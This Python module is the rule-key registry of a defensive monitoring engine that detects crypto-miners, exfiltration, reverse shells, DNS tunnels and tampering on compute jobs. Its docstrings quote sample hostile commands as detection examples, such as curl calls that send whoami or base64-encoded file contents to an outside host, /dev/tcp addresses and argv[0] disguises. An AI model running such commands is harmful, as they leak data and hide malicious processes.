"""The match-key registry: every rule key in one table - the events it applies to, how its value is checked and
normalised, how it compiles to a matcher, and how the engine indexes rules that use it. The loader validates
against it, the engine compiles and indexes from it, and collector/policy.py lowers some keys to the kernel:
a new key is one ``@key`` entry here (plus its kernel lowering, if it has one).

A matcher returns the field value that satisfied it (shown in the alert) or None.
"""

from __future__ import annotations

import errno
import ipaddress
import re
import signal
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from collector.resolve import DomainResolver
from collector.rules.context import (
    ENCODED_MIN_LABEL,
    Matcher,
    data_label,
    destination,
    discovery_burst,
    dns_tunnel_shape,
    failed_fanout,
    gpu_new_binary,
    host_fanout,
    normal_name,
    other_jobs_listener,
    under_any,
)
from collector.rules.downloads import downloaded_program
from collector.rules.payload import parse_spec, proxy_target
from collector.rules.regex import RegexError, compile_regex, search
from collector.rules.remotes import (
    command_output_url_hosts,
    foreign_host,
    headless_pages,
    package_sources,
    posted_output_hosts,
    proxy_hosts,
    staged_program_endpoints,
    transfer_remotes,
)
from gpuguard.addresses import unmapped
from gpuguard.argv_scan import ARGV_FP_LEN, ARGV_FP_MIN, ARGV_SCAN_MAX, argv_scan_text, literal_bytes
from gpuguard.render import printable
from gpuguard.vocab import (
    ESCAPE_ACTIONS,
    EXEC_TRAIT_BITS,
    PAYLOAD_ACTIONS,
    STRATUM_ACTIONS,
    TAMPER_ACTIONS,
    option_letters,
)

ALL_EVENTS = ("exec", "connect", "gpu_open", "payload", "tls", "dns", "datagram", "socket", "escape", "gpu_usage",
              "inbound", "listen", "tamper")
KERNEL_REPORTED = ("payload", "escape", "tamper")    # classes of enforcement records, not of captured events
FLOW_EVENTS = ("connect", "tls", "datagram", "dns")     # events with a destination (daddr, dport; dns: its server)
PROCESS_EVENTS = ("exec", "connect", "gpu_open", "tls", "dns", "datagram", "socket", "gpu_usage", "listen")


class KeyValueError(ValueError):
    """A key's value is not what the key takes: the loader adds file:line and the field."""


# ---- value kinds: check and normalise a key's (list-resolved) value -------------------------------------------
def _true(v):
    if v is not True:
        raise KeyValueError("must be true")
    return v


def _regex(v):
    try:
        compile_regex(v)
    except RegexError as exc:
        raise KeyValueError(f"bad regex: {exc}") from exc
    return v


def _regex_any(v):
    """A regex, or a list of them (a $list): any one matching."""
    parts = [_regex(x) for x in v] if isinstance(v, list) else [_regex(v)]
    if not parts:
        raise KeyValueError("an empty list of regexes")
    return "|".join(f"(?:{x})" for x in parts)


def _letters(v):
    if not isinstance(v, str) or not re.fullmatch(r"[A-Za-z]+", v):
        raise KeyValueError("must be option letters, e.g. RDw")
    return v


def _payload(v):
    try:
        return parse_spec(v)
    except ValueError as exc:
        raise KeyValueError(str(exc)) from exc


def _percent(v) -> int:
    if not isinstance(v, int) or isinstance(v, bool) or not 0 <= v < 100:
        raise KeyValueError("must be a percentage, an integer 0-99")
    return v


def _nonempty(v) -> list:
    if not isinstance(v, list) or not v:
        raise KeyValueError("must be a non-empty list (or $list)")
    return v


def _strings(v) -> list[str]:
    return [str(x) for x in _nonempty(v)]


def _ports(v) -> list[int]:
    if not all(isinstance(p, int) and 0 < p < 65536 for p in _nonempty(v)):
        raise KeyValueError("ports must be integers 1-65535")
    return v


def _count(v) -> int:
    if not isinstance(v, int) or isinstance(v, bool) or not 2 <= v <= 10_000:
        raise KeyValueError("a count: an integer 2-10000")
    return v


def _cidrs(v) -> list[str]:
    for c in _nonempty(v):
        try:
            ipaddress.ip_network(str(c), strict=False)
        except ValueError as exc:
            raise KeyValueError(f"bad CIDR {c!r}") from exc
    return [str(x) for x in v]


def _hosts(v) -> list[str]:
    if not all(re.fullmatch(r"[A-Za-z0-9.-]+", str(n)) for n in _nonempty(v)):
        raise KeyValueError("must be host names (no wildcards: they are resolved to addresses)")
    return [str(x) for x in v]


def _zones(v) -> list[str]:
    if not all(re.fullmatch(r"\*?\.?[A-Za-z0-9_.-]+\.?", str(n)) for n in _nonempty(v)):
        raise KeyValueError("must be domain names or suffixes (nanopool.org matches eu1.nanopool.org)")
    return [str(x) for x in v]


def _traits(v) -> list[str]:
    unknown = sorted({str(t) for t in _nonempty(v)} - set(EXEC_TRAIT_BITS))
    if unknown:
        raise KeyValueError(f"unknown exec traits {unknown}; known: {', '.join(EXEC_TRAIT_BITS)}")
    return [str(x) for x in v]


def _qtypes(v) -> list[str]:
    return ["NULL" if x is None else str(x).upper() for x in _nonempty(v)]   # YAML reads a bare NULL as null


# ---- the registry ------------------------------------------------------------------------------------------------
Compile = Callable[[Any, Any, "DomainResolver | None"], Matcher]     # (value, rule, resolver) -> matcher


@dataclass(frozen=True)
class MatchKey:
    name: str
    events: tuple[str, ...]
    check: Callable[[Any], Any]
    compile: Compile
    index: str = ""            # "name" | "port" | "domain": how the engine narrows the rules an event meets
    fingerprint: bool = False  # a payload rule must name one of these: it is what the kernel looks for
    kernel: tuple[str, ...] = ()   # events whose rules the kernel can enforce with this key (collector/policy.py
                                   # lowers them: kill at exec, connect deny/allow, payload drop, socket deny)
    stateful: bool = False     # reads more than STATELESS_READS (the job's context, resolved names): never memoised
    context: bool = False      # reads the job's context (JobContext): the engine looks it up for these only


REGISTRY: dict[str, MatchKey] = {}

# What a key that is not ``stateful`` may read: the engine remembers verdicts by exactly these (engine._remembered),
# so a key reading anything else must not be memoised: the job's context (say context=True) or resolved names
# (index="domain"); pid, process key, ancestors, uid, cgroup or time are read by no key and must not be.
# tests/test_rule_corpus.py changes everything outside this list and expects the same verdicts.
STATELESS_READS = ("host", "job.id", "job.kind", "process.comm", "process.exe", "process.exe_sha256",
                   "process.argv (exec events only)", "the event body")


def key(name: str, events: tuple[str, ...], check: Callable[[Any], Any], index: str = "",
        fingerprint: bool = False, kernel: tuple[str, ...] = (), context: bool = False) -> Callable[[Compile], Compile]:
    def register(compile_fn: Compile) -> Compile:
        if name in REGISTRY:
            raise ValueError(f"match key {name} registered twice")
        REGISTRY[name] = MatchKey(name, events, check, compile_fn, index, fingerprint, kernel,
                                  context or index == "domain", context)
        return compile_fn
    return register


def kernel_keys(event: str) -> frozenset[str]:
    """The keys a rule of this event may use and still be enforced in the kernel."""
    return frozenset(name for name, k in REGISTRY.items() if event in k.kernel)


def compile_matcher(name: str, value, rule, resolver: DomainResolver | None = None) -> Matcher:
    entry = REGISTRY.get(name)
    if entry is None:
        raise ValueError(f"{rule.source}:{rule.line}: no matcher for {name}")
    return entry.compile(value, rule, resolver)


# -- the program ----------------------------------------------------------------------------------------------------
@key("exe_name_in", ALL_EVENTS, _strings, index="name", kernel=("exec", "connect"))
def _exe_name_in(value, _rule, _res):
    wanted = {str(v).lower() for v in value}
    return lambda v, _c: next((n for n in v.names if n.lower() in wanted), None)


@key("comm_regex", PROCESS_EVENTS, _regex_any)
def _comm_regex(value, _rule, _res):
    """The name the process has when the event happens (the kernel's comm at that moment): a name changed after
    exec (prctl PR_SET_NAME, /proc/self/comm) shows here, not in the exec record."""
    rx = compile_regex(value)
    return lambda v, _c: v.ev.process.comm if v.ev.process.comm and search(rx, v.ev.process.comm) else None


@key("exe_prefix_in", PROCESS_EVENTS, _strings)
def _exe_prefix_in(value, _rule, _res):
    prefixes = tuple(str(v) for v in value)

    def exe_prefix(v, _c):
        ev = v.ev
        path = ev.exec.filename if ev.HasField("exec") else ev.process.exe
        return path if path.startswith(prefixes) or ev.process.exe.startswith(prefixes) else None
    return exe_prefix


@key("exe_hidden_dir_not_in", PROCESS_EVENTS, _strings)
def _exe_hidden_dir_not_in(value, _rule, _res):
    """The executable's path runs through a hidden directory (a name starting with a dot) that is not one of these:
    the tools of the field install into a few well-known ones, droppers anywhere."""
    known = frozenset(str(v) for v in value)

    def hidden_dir(v, _c):
        path = v.ev.process.exe
        if not path.startswith("/"):
            return None
        for part in path.split("/")[1:-1]:
            if part.startswith(".") and part not in (".", "..") and part not in known:
                return f"{path} runs from the hidden directory {part}"
        return None
    return hidden_dir


@key("exe_regex", PROCESS_EVENTS, _regex_any)
def _exe_regex(value, _rule, _res):
    """The executed file's path (a regex or a $list of them): where a program runs from says what it is when its name
    says nothing (``/dev/shm/.x/a``, a file in ``/tmp/.X11-unix``, which holds only sockets)."""
    rx = compile_regex(value)

    def exe_regex(v, _c):
        ev = v.ev
        for path in (ev.exec.filename if ev.HasField("exec") else "", ev.process.exe):
            if path and search(rx, path):
                return path
        return None
    return exe_regex


ARGV_HOST = re.compile(r"(?i)(?<![\w.-])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{1,62})(?![\w-])")


@key("argv_host_in", ("exec",), _zones)
def _argv_host_in(value, _rule, _res):
    """A host name in the argv under one of the zones (any argument, any form: `-o pool.example.org:443`,
    `user@host`, a URL): whom the program is told to reach, before it reaches it."""
    suffixes = {normal_name(n) for n in value}

    def argv_host(v, _c):
        for text in v.argv_texts:
            for m in ARGV_HOST.finditer(text[:ARGV_SCAN_MAX]):
                if under_any(m.group(1).lower(), suffixes):
                    return m.group(1)
        return None
    return argv_host


@key("package_source_not_in", ("exec",), _zones)
def _package_source_not_in(value, _rule, _res):
    """A package manager (pip, uv, conda, npm, yarn, gem, poetry...) told to install or fetch from a named host
    outside these zones, not a short internal name nor under an internal zone (.internal, .local, .corp,
    .cluster.local...): a package index, mirror, registry, channel, find-links page or URL the site does not use -
    how a planted package or a typosquat's own index gets into a job."""
    return _named_host_outside(value, package_sources)


@key("transfer_host_not_in", ("exec",), _zones)
def _transfer_host_not_in(value, _rule, _res):
    """A copy, sync, backup or push whose remote end is a named host outside these zones and not inside the site
    (scp/rsync/sftp/restic/borg to ``u@host:``, an object store's ``--endpoint-url``, a git remote's URL, ssh fed a
    file or a pipe): data leaving for, or tools arriving from, someone else's server - whatever the tool."""
    return _named_host_outside(value, transfer_remotes)


@key("staged_endpoint_host_not_in", ("exec",), _zones)
def _staged_endpoint_host_not_in(value, _rule, _res):
    """A program run from a staging place (./x, /tmp, /var/tmp, /dev/shm, a hidden directory) handed a named host
    outside these zones and not inside the site as an endpoint (a URL's host, ``host:port``, the value of a
    server-ish option: ``-server``, ``--c2``, ``--relay``): a brought-in client told whom to reach."""
    return _named_host_outside(value, staged_program_endpoints)


@key("url_output_host_not_in", ("exec",), _zones)
def _url_output_host_not_in(value, _rule, _res):
    """A URL to a named host outside these zones and not inside the site that carries a command's output
    (``curl "https://h/?d=$(whoami)@$(hostname)"``, a browser or any program handed such an address): whatever
    the command read - a name, a key, the environment - leaves in the address itself."""
    return _named_host_outside(value, command_output_url_hosts)


@key("posted_output_host_not_in", ("exec",), _zones)
def _posted_output_host_not_in(value, _rule, _res):
    """An HTTP client that posts a file's or a command's data in its request body (``curl -d "$(base64 -w0 f)"``)
    to a named host outside these zones and not inside the site: an API of someone else's taking the data."""
    return _named_host_outside(value, posted_output_hosts)


@key("headless_page_host_not_in", ("exec",), _zones)
def _headless_page_host_not_in(value, _rule, _res):
    """A browser run without a window (``chromium --headless``, ``firefox -headless``) pointed at a page on a named
    host outside these zones and not inside the site: a page that mines in the browser or a channel a script
    drives, where no curl or wget rule looks."""
    return _named_host_outside(value, headless_pages)


@key("proxy_host_not_in", ("exec",), _zones)
def _proxy_host_not_in(value, _rule, _res):
    """A program told to send its traffic through a proxy at a named host outside these zones and not inside the
    site (``HTTPS_PROXY=``, ``ALL_PROXY=``, ``curl -x``, ``--proxy``, git's or npm's proxy setting): every request
    it makes passes through someone else's host, and the egress policy sees only the proxy."""
    return _named_host_outside(value, proxy_hosts)


def _named_host_outside(value, hosts_of: Callable[[str], Iterator[str]]) -> Matcher:
    known = {normal_name(n) for n in value}

    def outside(v, _c):
        for text in v.argv_texts:
            for host in hosts_of(text[:ARGV_SCAN_MAX]):
                if foreign_host(host, known):
                    return host
        return None
    return outside


def _same_program(a: str, b: str) -> bool:
    """python3 and python3.11, node and nodejs: one name a version or variant of the other."""
    return a.startswith(b) or b.startswith(a)


ARGV_IPV4 = re.compile(r"(?<![\w.])(\d{1,3}(?:\.\d{1,3}){3})(?![\w.]|-\d)")


def argv_addresses(text: str):
    """IPv4 addresses written in an argv (a whole argument, `host:port`, a URL, `user@addr`, `/dev/tcp/addr`,
    `--host=addr`), not version strings (`torch==2.3.0.1`, `v1.2.3.4`): each as (text, address)."""
    for m in ARGV_IPV4.finditer(text):
        before = text[max(0, m.start() - 2):m.start()]
        if before.endswith("=") and before[:1] in "=<>~!":     # ==, >=, <=, ~=, != : a version pin
            continue
        addr = unmapped(m.group(1))
        if addr is not None:
            yield m.group(1), addr


@key("argv_address_not_in", ("exec",), _cidrs)
def _argv_address_not_in(value, _rule, _res):
    """An address in the argv outside these networks, that can be a host out there (not link-local, multicast,
    unspecified or broadcast): a program told to reach a bare address, which no name rule or DNS policy sees."""
    nets = [ipaddress.ip_network(n, strict=False) for n in value]

    def address(v, _c):
        for argv_text in v.argv_texts:
            for text, addr in argv_addresses(argv_text[:ARGV_SCAN_MAX]):
                if addr.is_link_local or addr.is_multicast or addr.is_unspecified or \
                        str(addr) == "255.255.255.255":
                    continue
                if not any(addr in n for n in nets if n.version == addr.version):
                    return text
        return None
    return address


@key("argv0_names_other_program", ("exec",), _strings)
def _argv0_names_other_program(value, _rule, _res):
    """argv[0] names one of these programs but the file executed is another (``exec -a python3 /tmp/x``,
    ``os.execv(miner, ["sshd"])``): the name ps, top and every argv rule read is not the program that runs."""
    wanted = {str(v).lower() for v in value}

    def disguise(v, _c):
        ev = v.ev
        if not ev.exec.argv:
            return None
        shown = ev.exec.argv[0].rsplit("/", 1)[-1].lstrip("-").lower()
        if shown not in wanted:
            return None
        files = (ev.exec.filename, ev.process.exe)
        if len(ev.exec.argv) > 1 and ev.exec.argv[1] == ev.exec.filename:
            files = (ev.process.exe,)                 # a script run through its #!: argv[0] is its interpreter
        runs = [n.lower() for n in (f.rsplit("/", 1)[-1] for f in files) if n]
        if not runs or any(_same_program(shown, r) for r in runs):
            return None
        return f"argv[0] {shown!r} runs {runs[-1]!r}"
    return disguise


@key("sha256_in", ("exec",), _strings)
def _sha256_in(value, _rule, _res):
    hashes = {h.lower() for h in value}
    return lambda v, _c: v.ev.process.exe_sha256 if v.ev.process.exe_sha256 in hashes else None


@key("argv_regex", ("exec",), _regex)
def _argv_regex(value, _rule, _res):
    rx = compile_regex(value)

    def argv_regex(v, _c):
        for text in v.argv_texts:
            m = search(rx, text)
            if m:
                return m.group(0).strip() or m.group(0)
        return None
    return argv_regex


def _argv_literals(v) -> list[list[str]]:
    """argv_has: alternatives, each a literal or a list of literals that must all occur (4..32 bytes each)."""
    out = []
    for alt in _nonempty(v):
        lits = [str(x) for x in (alt if isinstance(alt, list) else [alt])]
        for lit in lits:
            if not ARGV_FP_MIN <= len(literal_bytes(lit)) <= ARGV_FP_LEN:
                raise KeyValueError(f"argv literal {lit!r}: {ARGV_FP_MIN}..{ARGV_FP_LEN} bytes (the kernel's bound)")
        if not lits:
            raise KeyValueError("an empty alternative")
        out.append(lits)
    return out


@key("argv_has", ("exec",), _argv_literals, kernel=("exec",))
def _argv_has(value, _rule, _res):
    """Literals in the whole argv, case-insensitive, arguments read as space-separated: what the kernel's argv
    scan sees (gpuguard/argv_scan.py), so the rule judges alike in the kernel and here. Here it also reads the
    line with its disguises undone (context.EventView.argv_texts), which the kernel cannot: a disguised line the
    kernel let through is still caught, from user space."""
    alternatives = [[literal_bytes(lit).decode("utf-8", "replace") for lit in alt] for alt in value]

    def argv_has(v, _c):
        texts = v.argv_texts
        for text in (v.argv_scan_text, *(argv_scan_text([t]) for t in texts[1:])):
            for alt in alternatives:
                if all(lit in text for lit in alt):
                    return " + ".join(alt)
        return None
    return argv_has


@key("argv_uninspectable", ("exec",), _true, kernel=("exec",))
def _argv_uninspectable(_value, _rule, _res):
    """An argv longer than the kernel's scan inspects (ARGV_SCAN_MAX): said, and a rule can act on it."""
    def uninspectable(v, _c):
        size = v.ev.exec.argv_bytes or len(v.argv_scan_text.encode())
        return f"argv of {size} bytes" if size > ARGV_SCAN_MAX else None
    return uninspectable


@key("argv_short_option_in", ("exec",), _letters, kernel=("exec",))
def _argv_short_option_in(value, _rule, _res):
    wanted = set(value)

    def short_opts(v, _c):
        hit = sorted(option_letters(v.argv) & wanted)
        return "-" + "".join(hit) if hit else None
    return short_opts


@key("exec_trait_in", ("exec",), _traits, kernel=("exec",))
def _exec_trait_in(value, _rule, _res):
    wanted = {str(t) for t in value}

    def traits(v, _c):
        hit = [t for t in v.ev.exec.traits if t in wanted]
        return ",".join(hit) if hit else None
    return traits


@key("ssh_config_forward", ("exec",), _true)
def _ssh_config_forward(_value, _rule, _res):
    return lambda v, _c: "; ".join(v.ev.exec.ssh_forwards[:4]) or None


@key("config_regex", ("exec",), _regex)
def _config_regex(value, _rule, _res):
    """A line of a configuration file argv names (Exec.config_lines, agent/config_peek.py): the first that matches."""
    rx = compile_regex(value)

    def config_regex(v, _c):
        for line in v.ev.exec.config_lines:
            if search(rx, line):
                return line[:200]
        return None
    return config_regex


def _stdio_on_socket(_value, _rule, _res):
    """A shell on an inet socket; pipes to the network only the kernel can tell (its kill event)."""
    def stdio(v, _c):
        fds = [f"fd{i}" for i, kind in enumerate(v.ev.exec.stdio[:3]) if kind == "socket"]
        return f"{','.join(fds)} on a socket" if fds else None
    return stdio


key("stdio_socket", ("exec",), _true, kernel=("exec",))(_stdio_on_socket)
key("stdio_network", ("exec",), _true, kernel=("exec",))(_stdio_on_socket)


@key("stdio_pty_network", ("exec",), _true, kernel=("exec",))
def _stdio_pty_network(_value, _rule, _res):
    return lambda v, _c: v.ev.exec.pty_peer or None


# -- where a flow went ------------------------------------------------------------------------------------------------
@key("dport_in", FLOW_EVENTS, _ports, index="port", kernel=("connect",))
def _dport_in(value, _rule, _res):
    ports = set(value)

    def dport(v, _c):
        port = destination(v.ev)[1]
        return str(port) if port in ports else None
    return dport


def _address(inside: bool, address_of: Callable[[Any], str]) -> Compile:
    """An address of the event (v4-mapped v6 read as v4) inside, or outside, the networks listed."""
    def compile_fn(value, _rule, _res):
        nets = [ipaddress.ip_network(n, strict=False) for n in value]

        def address(v, _c):
            text = address_of(v.ev)
            addr = unmapped(text)
            if addr is None:
                return None
            hit = any(addr in n for n in nets if n.version == addr.version)
            return text if hit == inside else None
        return address
    return compile_fn


def _destination_address(ev) -> str:
    return destination(ev)[0]


key("daddr_cidr_in", FLOW_EVENTS, _cidrs, kernel=("connect",))(_address(True, _destination_address))
key("daddr_not_in", FLOW_EVENTS, _cidrs, kernel=("connect",))(_address(False, _destination_address))


# -- who reached a job from another host ----------------------------------------------------------------------------
def _inbound_peer(ev) -> str:
    return ev.inbound.peer


key("peer_in", ("inbound",), _cidrs)(_address(True, _inbound_peer))
key("peer_not_in", ("inbound",), _cidrs)(_address(False, _inbound_peer))


@key("local_port_in", ("inbound", "listen"), _ports)
def _local_port_in(value, _rule, _res):
    ports = set(value)

    def local_port(v, _c):
        port = v.ev.inbound.local_port if v.ev.HasField("inbound") else v.ev.listen.port
        return str(port) if port in ports else None
    return local_port


@key("proto_in", ("connect",), _strings, kernel=("connect",))
def _proto_in(value, _rule, _res):
    protos = set(value)
    return lambda v, _c: v.ev.connect.proto if v.ev.connect.proto in protos else None


@key("daddr_domain_in", ("connect",), _hosts, index="domain")
def _daddr_domain_in(value, _rule, resolver):
    wanted = {str(n).lower().rstrip(".") for n in value}

    def domain(v, _c):
        name = resolver.name_of(v.ev.connect.daddr) if resolver else None
        return f"{v.ev.connect.daddr} ({name})" if name in wanted else None
    return domain


# -- whom a flow was for ---------------------------------------------------------------------------------------------
@key("dns_name_in", ("connect", "dns"), _zones)
def _dns_name_in(value, _rule, _res):
    suffixes = {normal_name(n) for n in value}

    def name_in(v, _c):
        ev = v.ev
        name = ev.dns.name if ev.HasField("dns") else ev.connect.name
        return name if name and under_any(name, suffixes) else None
    return name_in


@key("dns_name_not_in", ("connect",), _zones, kernel=("connect",))
def _dns_name_not_in(value, _rule, _res):
    allowed = {normal_name(n) for n in value}

    def name_not_in(v, _c):
        c = v.ev.connect
        if c.name and under_any(c.name, allowed):
            return None
        return f"{c.daddr} ({c.name or 'unnamed'})"
    return name_not_in


@key("unnamed", ("connect",), _true)
def _unnamed(_value, _rule, _res):
    def unnamed(v, _c):
        c = v.ev.connect
        return f"{c.daddr} (no DNS answer on this node named it)" if c.name_scope == "none" else None
    return unnamed


@key("reached", ("connect",), _true)
def _reached(_value, _rule, _res):
    """The connect was not refused, denied or unreachable: established, a UDP destination set, or still in progress
    when its outcome was due (a silent drop looks the same). A sweep's refused ports are the sweep's alert, not one
    alert per service its ports happen to name."""
    def reached(v, _c):
        result = v.ev.connect.result
        return "established" if result == 0 else "no answer yet" if result == -errno.EINPROGRESS else None
    return reached


@key("image_nolink", ("connect", "gpu_open"), _true)
def _image_nolink(_value, _rule, _res):
    """The program had no link on disk at the connect or GPU open (probes/connect.c, gpu_dev.c): deleted after it
    started, as miners and droppers do to themselves, or run from a memfd - whatever it is called and wherever it
    ran from."""
    def unlinked(v, _c):
        ev = v.ev
        body = ev.connect if ev.HasField("connect") else ev.gpu_open
        return f"{ev.process.exe or ev.process.comm} (deleted or memfd)" if body.image_nolink else None
    return unlinked


@key("sni_in", ("tls",), _zones)
def _sni_in(value, _rule, _res):
    suffixes = {normal_name(n) for n in value}
    return lambda v, _c: v.ev.tls.sni if v.ev.tls.sni and under_any(v.ev.tls.sni, suffixes) else None


@key("alpn_in", ("tls",), _strings)
def _alpn_in(value, _rule, _res):
    protocols = {str(x) for x in value}
    return lambda v, _c: next((a for a in v.ev.tls.alpn if a in protocols), None)


@key("tls_fingerprint_in", ("tls",), _strings)
def _tls_fingerprint_in(value, _rule, _res):
    prefixes = tuple(str(x) for x in value)
    return lambda v, _c: v.ev.tls.ja4 if v.ev.tls.ja4 and v.ev.tls.ja4.startswith(prefixes) else None


@key("no_sni", ("tls",), _true)
def _no_sni(_value, _rule, _res):
    return lambda v, _c: f"TLS to {v.ev.tls.daddr}:{v.ev.tls.dport} without a server name" \
        if not v.ev.tls.sni else None


@key("dns_qtype_in", ("dns",), _qtypes)
def _dns_qtype_in(value, _rule, _res):
    qtypes = {str(x).upper() for x in value}
    return lambda v, _c: v.ev.dns.qtype if v.ev.dns.qtype in qtypes else None


@key("failed_fanout_at_least", ("connect",), _count, context=True)
def _failed_fanout_at_least(value, _rule, _res):
    return lambda v, ctx: failed_fanout(v.ev, ctx, value) if ctx is not None else None


@key("hosts_on_port_at_least", ("connect",), _count, context=True)
def _hosts_on_port_at_least(value, _rule, _res):
    return lambda v, ctx: host_fanout(v.ev, ctx, value) if ctx is not None else None


@key("discovery_burst_at_least", ("exec",), _count, context=True)
def _discovery_burst_at_least(value, _rule, _res):
    return lambda v, ctx: discovery_burst(v.ev, ctx, value) if ctx is not None else None


@key("exec_of_download", ("exec",), _true, context=True)
def _exec_of_download(_value, _rule, _res):
    """The exec runs a file this job downloaded earlier (collector/rules/downloads.py)."""
    def downloaded(v, ctx):
        if ctx is None:
            return None
        ev = v.ev
        return downloaded_program(ctx.downloads, ev.process.exe, ev.exec.filename, ev.ts_ns)
    return downloaded


@key("reaches_another_jobs_listener", ("connect",), _true, context=True)
def _reaches_another_jobs_listener(_value, _rule, _res):
    return lambda v, ctx: other_jobs_listener(v.ev, ctx) if ctx is not None else None


@key("dns_tunnel_shape", ("dns",), _true, context=True)
def _dns_tunnel_shape(_value, _rule, _res):
    return lambda v, ctx: dns_tunnel_shape(v.ev.dns.name, ctx) if ctx is not None else None


def _label_length(v) -> int:
    if not isinstance(v, int) or isinstance(v, bool) or not ENCODED_MIN_LABEL <= v <= 63:
        raise KeyValueError(f"a label length: an integer {ENCODED_MIN_LABEL}-63")
    return v


@key("dns_data_label_at_least", ("dns",), _label_length)
def _dns_data_label_at_least(value, _rule, _res):
    return lambda v, _c: data_label(v.ev.dns.name, value)


@key("datagram_shape_in", ("datagram",), _strings)
def _datagram_shape_in(value, _rule, _res):
    shapes = {str(x) for x in value}
    return lambda v, _c: v.ev.datagram.shape if v.ev.datagram.shape in shapes else None


@key("socket_kind_in", ("socket",), _strings, kernel=("socket",))
def _socket_kind_in(value, _rule, _res):
    kinds = {str(x) for x in value}
    return lambda v, _c: f"{v.ev.socket.what} socket ({v.ev.socket.family}/{v.ev.socket.type}, protocol " \
        f"{v.ev.socket.protocol})" if v.ev.socket.what in kinds else None


# -- the GPU ---------------------------------------------------------------------------------------------------------
@key("path_regex", ("gpu_open",), _regex)
def _path_regex(value, _rule, _res):
    rx = compile_regex(value)
    return lambda v, _c: v.ev.gpu_open.path if search(rx, v.ev.gpu_open.path) else None


@key("gpu_new_binary", ("gpu_open", "gpu_usage"), _true, context=True)
def _gpu_new_binary(_value, _rule, _res):
    return lambda v, ctx: gpu_new_binary(v.ev, ctx) if ctx is not None else None


# -- what the GPU driver says a process does with the GPU (agent/gpu_usage.py) ---------------------------------
@key("gpu_util_above", ("gpu_usage",), _percent)
def _gpu_util_above(value, _rule, _res):
    def busy(v, _c):
        g = v.ev.gpu_usage
        if g.sm_util > value:
            return f"SM {g.sm_util}% of GPU {g.gpu} ({g.memory_bytes >> 20} MiB, device {g.device_util}%)"
        return None
    return busy


# -- what the kernel saw in a flow's first bytes (payload rules) ---------------------------------------------------
@key("payload", ("payload",), _payload, fingerprint=True, kernel=("payload",))
def _payload_key(value, rule, _res):
    def payload(v, _c):
        e = v.ev.enforcement
        if e.action not in PAYLOAD_ACTIONS or (e.rule_id != rule.id and value.search(e.payload) is None):
            return None
        return printable(e.payload[:40]) or "(payload)"
    return payload


@key("stratum", ("payload",), _true, fingerprint=True, kernel=("payload",))
def _stratum(_value, _rule, _res):
    return lambda v, _c: v.ev.enforcement.action if v.ev.enforcement.action in STRATUM_ACTIONS else None


# -- a process leaving its job's cgroup (probes/enforce_escape.c) -------------------------------------------------
@key("job_escape", ("escape",), _true, kernel=("escape",))
def _job_escape(_value, _rule, _res):
    return lambda v, _c: v.ev.enforcement.detail or "left the job" \
        if v.ev.enforcement.action in ESCAPE_ACTIONS else None


# -- a signal sent to the agent by another process (probes/agent_guard.c) -----------------------------------------
def _signals(v) -> list[int]:
    """Signal names (STOP, SIGKILL, term) or numbers -> numbers."""
    out = []
    for item in _nonempty(v):
        name = str(item).upper()
        name = name if name.isdigit() or name.startswith("SIG") else f"SIG{name}"
        try:
            out.append(int(name) if name.isdigit() else int(signal.Signals[name]))
        except KeyError as exc:
            raise KeyValueError(f"unknown signal {item!r}") from exc
    return out


@key("agent_signal", ("tamper",), _signals)
def _agent_signal(value, _rule, _res):
    """Another process sent the agent one of these signals (kill -STOP, SIGKILL, SIGTERM... by number, by a name
    found with pgrep, from inline code): the kernel reports who sent it, whatever the command looked like."""
    wanted = frozenset(value)

    def signalled(v, _c):
        e = v.ev.enforcement
        if e.action not in TAMPER_ACTIONS or e.signal not in wanted:
            return None
        return e.detail or f"signal {e.signal}"
    return signalled


def _proxy(by_port: bool) -> Compile:
    """The host or port a proxy request (SOCKS4/5 or HTTP CONNECT) asks for: whom the job reaches through it."""
    def compile_fn(value, _rule, _res):
        wanted = {str(x).lower() for x in value}
        zones = {normal_name(x) for x in value}

        def proxied(v, _c):
            target = proxy_target(v.ev.enforcement.payload)
            if target is None:
                return None
            host, port, how = target
            hit = str(port) in wanted if by_port else under_any(host, zones)
            return f"{how} CONNECT {host}:{port}" if hit else None
        return proxied
    return compile_fn


key("socks_dport_in", ("payload",), _ports)(_proxy(by_port=True))      # SOCKS or HTTP CONNECT (the names are older)
key("socks_host_in", ("payload",), _zones)(_proxy(by_port=False))

MATCH_KEYS: dict[str, tuple[str, ...]] = {name: k.events for name, k in REGISTRY.items()}
FINGERPRINT_KEYS = tuple(name for name, k in REGISTRY.items() if k.fingerprint)
